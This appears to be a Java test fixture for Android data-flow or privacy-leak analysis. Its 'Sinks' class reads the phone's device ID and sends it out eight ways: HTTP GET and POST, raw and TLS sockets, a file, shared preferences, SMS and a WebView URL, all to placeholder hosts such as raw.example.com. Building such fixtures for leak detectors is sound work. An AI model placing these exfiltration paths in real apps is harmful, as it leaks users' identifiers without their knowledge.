package com.example.flows;

import android.content.Context;
import android.content.SharedPreferences;
import android.telephony.SmsManager;
import android.webkit.WebView;
import java.io.FileOutputStream;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.Socket;
import java.net.URL;
import javax.net.ssl.SSLSocketFactory;

/** Ways out. */
final class Sinks {
  static void all(Context c) throws Exception { get(); post(); socket(); tls(); file(c); prefs(c); sms(); web(c); }
  static void get() throws Exception { new URL("https://get.example.com/a?id=" + Main.phone.getDeviceId()).openConnection().getInputStream(); }
  static void post() throws Exception {
    HttpURLConnection h = (HttpURLConnection) new URL("http://post.example.com/b").openConnection();
    h.setDoOutput(true);
    OutputStream o = h.getOutputStream();
    o.write(Main.phone.getDeviceId().getBytes("UTF-8"));
    o.close();
  }
  static void socket() throws Exception { new Socket("raw.example.com", 7000).getOutputStream().write(Main.phone.getDeviceId().getBytes("UTF-8")); }
  static void tls() throws Exception {
    SSLSocketFactory.getDefault().createSocket("tls.example.com", 443).getOutputStream().write(Main.phone.getDeviceId().getBytes("UTF-8"));
  }
  static void file(Context c) throws Exception {
    FileOutputStream f = c.openFileOutput("id.txt", 0);
    f.write(Main.phone.getDeviceId().getBytes("UTF-8"));
    f.close();
  }
  static void prefs(Context c) {
    SharedPreferences.Editor e = c.getSharedPreferences("p", 0).edit();
    e.putString("id", Main.phone.getDeviceId());
    e.apply();
  }
  static void sms() { SmsManager.getDefault().sendTextMessage("+10000000000", null, Main.phone.getDeviceId(), null, null); }
  static void web(Context c) { new WebView(c).loadUrl("https://web.example.com/?id=" + Main.phone.getDeviceId()); }
}
